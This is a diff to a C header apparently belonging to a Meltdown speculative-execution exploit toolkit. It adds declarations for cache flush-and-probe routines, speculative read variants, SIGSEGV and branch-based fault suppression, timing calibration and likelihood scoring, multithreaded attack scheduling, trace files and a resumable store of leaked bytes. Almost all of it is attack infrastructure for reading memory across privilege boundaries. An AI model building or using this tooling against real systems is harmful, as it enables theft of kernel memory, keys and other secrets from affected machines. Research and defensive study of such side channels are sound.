@@ -45,20 +45,228 @@ extern int verbose;
  */
 void hexdump(size_t, const void *, size_t);
 
+/*
+ * CPU identification, topology and affinity
+ */
+#define CPU_MAX		1024
+unsigned int cpu_cores(int *, unsigned int);
+int cpu_sibling(int);
+int cpu_bind(int);
+uint32_t cpu_signature(void);
+uint32_t cpu_microcode(int);
+void cpu_dispatch(void);
+
 /*
  * Assembler functions
  */
 void clflush(const void *);
+void cpuid(uint32_t, uint32_t, uint32_t *);
 uint64_t rdtsc64(void);
 uint32_t rdtsc32(void);
 uint64_t timed_read(const void *);
+void probe_flush_clflush(const uint8_t *, unsigned int, unsigned int);
+void probe_flush_clflushopt(const uint8_t *, unsigned int, unsigned int);
+void probe_scan_rdtsc(const uint8_t *, const uint16_t *, unsigned int,
+    unsigned int, uint32_t *);
+void probe_scan_rdtscp(const uint8_t *, const uint16_t *, unsigned int,
+    unsigned int, uint32_t *);
 void spec_read(const uint8_t *, const uint8_t *, unsigned int);
+void spec_read_cond(const uint8_t *, const uint8_t *, unsigned int,
+    const unsigned int *);
+void spec_read_digit(const uint8_t *, const uint8_t *, unsigned int,
+    unsigned int, unsigned int);
+void spec_read_cond_digit(const uint8_t *, const uint8_t *, unsigned int,
+    unsigned int, unsigned int, const unsigned int *);
+void spec_read_wide(const uint8_t *, const uint8_t *, unsigned int,
+    unsigned int, size_t);
+void spec_read_cond_wide(const uint8_t *, const uint8_t *, unsigned int,
+    unsigned int, size_t, const unsigned int *);
+
+/*
+ * Assembler functions selected at run time by cpu_dispatch()
+ */
+extern void (*probe_flush)(const uint8_t *, unsigned int, unsigned int);
+extern void (*probe_scan)(const uint8_t *, const uint16_t *, unsigned int,
+    unsigned int, uint32_t *);
+
+/*
+ * Options common to all programs
+ */
+#define MELTDOWN_OPTS	"C:d:e:j:m:p:t:w:X:"
+#define MELTDOWN_USAGE	"[-C cachefile] [-d hits|llr] " \
+			"[-e byte|nibble|bit] [-j threads] " \
+			"[-m signal|nodefer|branch] " \
+			"[-p [shift=n][,huge][,shuffle]] [-t tolerance] " \
+			"[-w width] [-X tracefile]"
+int meltdown_option(int, const char *);
+
+/*
+ * Fault suppression methods
+ */
+typedef enum {
+	SUPPRESS_SIGNAL,	/* catch SIGSEGV, save and restore signal mask */
+	SUPPRESS_NODEFER,	/* catch SIGSEGV, leave signal mask alone */
+	SUPPRESS_BRANCH,	/* read only under a mispredicted branch */
+	SUPPRESS_MAX
+} meltdown_suppress;
+extern meltdown_suppress meltdown_suppression;
+
+/*
+ * Scoring methods
+ */
+typedef enum {
+	SCORE_HITS,		/* count reads below the threshold */
+	SCORE_LLR,		/* sum log-likelihood ratios */
+	SCORE_MAX
+} meltdown_score;
+extern meltdown_score meltdown_scoring;
 
 /*
- * Attack setup and execution
+ * Encodings: how many bits of the target each round reads
  */
+typedef enum {
+	ENCODE_BYTE,		/* 8 bits, 256 probe lines */
+	ENCODE_NIBBLE,		/* 4 bits, 16 probe lines */
+	ENCODE_BIT,		/* 1 bit, 2 probe lines */
+	ENCODE_MAX
+} meltdown_encode;
+extern meltdown_encode meltdown_encoding;
+
+/*
+ * Number of consecutive bytes read in each round, byte encoding only
+ */
+#define WIDTH_MAX	8
+extern unsigned int meltdown_width;
+
+/*
+ * Probe array geometry
+ */
+#define PROBE_SHIFT_DFLT	12	/* one line per page */
+#define PROBE_SHIFT_MIN		6	/* one line per cache line */
+#define PROBE_SHIFT_MAX		16
+extern unsigned int meltdown_probe_shift;
+extern int meltdown_probe_huge;
+extern int meltdown_probe_shuffle;
+
+/*
+ * Calibration results, and a cache to store them in between runs
+ */
+#define PROBE_NLINES	256
+#define LLR_NBINS	128
+#define LLR_BINSIZE	8
+struct meltdown_cal {
+	uint64_t	 avg_cold;	/* average cold read latency */
+	uint64_t	 avg_hot;	/* average hot read latency */
+	uint64_t	 threshold;	/* global decision threshold */
+	uint32_t	 lthreshold[PROBE_NLINES]; /* per-line thresholds */
+	float		 llr[LLR_NBINS]; /* log-likelihood ratio, hot : cold */
+};
+int calcache_load(const char *, int, struct meltdown_cal *);
+int calcache_save(const char *, int, const struct meltdown_cal *);
+
+/*
+ * Per-byte state, which the caller can keep and pass back in to build on
+ * the results of previous attacks.  With a reduced-alphabet encoding,
+ * the histogram and score for digit k having value v are found at index
+ * k * 2^n + v, where n is the number of bits per digit, and digit 0 is
+ * the least significant.  After each attack, the two most likely values
+ * are ranked along with a measure of how far ahead the winner is.
+ */
+struct meltdown_byte {
+	unsigned int	 rounds;	/* rounds performed so far */
+	unsigned int	 hist[256];	/* hits per value */
+	float		 score[256];	/* log-likelihood per value */
+	uint8_t		 value[2];	/* best value and runner-up */
+	float		 vscore[2];	/* their scores */
+	float		 conf;		/* significant if > 1 */
+};
+
+/*
+ * Trace file format.  The file starts with a header, followed by one
+ * block per worker per attack, each consisting of a block header and up
+ * to TRACE_NREC records, oldest first.  Each record holds the latency of
+ * every probe line, indexed by value, for one digit of one byte in one
+ * round.  All fields are in host byte order.
+ */
+#define TRACE_MAGIC	"MDTRACE"
+#define TRACE_VERSION	1
+#define TRACE_NREC	16384
+struct meltdown_trace_hdr {
+	char		 magic[8];	/* TRACE_MAGIC */
+	uint32_t	 version;	/* TRACE_VERSION */
+	uint32_t	 reclen;	/* size of a record */
+	uint32_t	 nlines;	/* probe lines per digit */
+	uint32_t	 ndigits;	/* digits per byte */
+};
+struct meltdown_trace_blk {
+	int32_t		 cpu;		/* worker's CPU, or -1 */
+	uint32_t	 nrec;		/* records in this block */
+	uint64_t	 dropped;	/* older records overwritten */
+	uint32_t	 lthreshold[PROBE_NLINES]; /* per-line thresholds */
+};
+struct meltdown_trace_rec {
+	uint64_t	 addr;		/* target address */
+	uint32_t	 round;		/* round for this byte, from 0 */
+	uint16_t	 digit;		/* digit, from 0 */
+	uint16_t	 pad;
+	uint16_t	 lat[PROBE_NLINES]; /* latency, clamped */
+};
+extern const char *meltdown_trace;
+
+/*
+ * A segment to read with meltdown_attack_v(): the target range, and where
+ * to store the result and per-byte state, either of which may be NULL,
+ * as for meltdown_attack()
+ */
+struct meltdown_iov {
+	const void	*target;
+	void		*buf;
+	struct meltdown_byte *hist;
+	size_t		 len;
+};
+
+/*
+ * Single-threaded attack context
+ */
+struct meltdown_ctx;
+struct meltdown_ctx *meltdown_ctx_create(int);
+void meltdown_ctx_destroy(struct meltdown_ctx *);
+void meltdown_ctx_calibrate(struct meltdown_ctx *);
+void meltdown_ctx_attack(struct meltdown_ctx *, const void *, void *,
+    struct meltdown_byte *, size_t, unsigned int);
+double meltdown_ctx_verify(struct meltdown_ctx *, const void *, const void *,
+    size_t, unsigned int);
+
+/*
+ * Attack setup and execution using one context per physical core
+ */
+extern unsigned int meltdown_nthreads;
+extern unsigned int meltdown_minrounds;
+extern double meltdown_caltol;
+extern const char *meltdown_calcache;
+extern void (*meltdown_output)(size_t, const void *, size_t);
 void meltdown_init(void);
 void meltdown_calibrate(void);
-void meltdown_attack(const void *, void *, size_t, unsigned int);
+void meltdown_attack(const void *, void *, struct meltdown_byte *, size_t,
+    unsigned int);
+void meltdown_attack_v(const struct meltdown_iov *, unsigned int,
+    unsigned int);
+void meltdown_schedule(const void *, void *, struct meltdown_byte *, size_t,
+    unsigned int, uint64_t, double);
+double meltdown_verify(const void *, const void *, size_t, unsigned int);
+unsigned int meltdown_nworkers(void);
+uint64_t meltdown_nrounds(void);
+#ifdef MELTDOWN_STATS
+void meltdown_stats(void);
+#endif
+void meltdown_compare(const void *);
+
+/*
+ * Resumable result store
+ */
+struct resstore;
+struct resstore *resstore_open(const char *, uint64_t, size_t);
+void resstore_attack(struct resstore *, const void *, unsigned int);
+void resstore_close(struct resstore *);
 
 #endif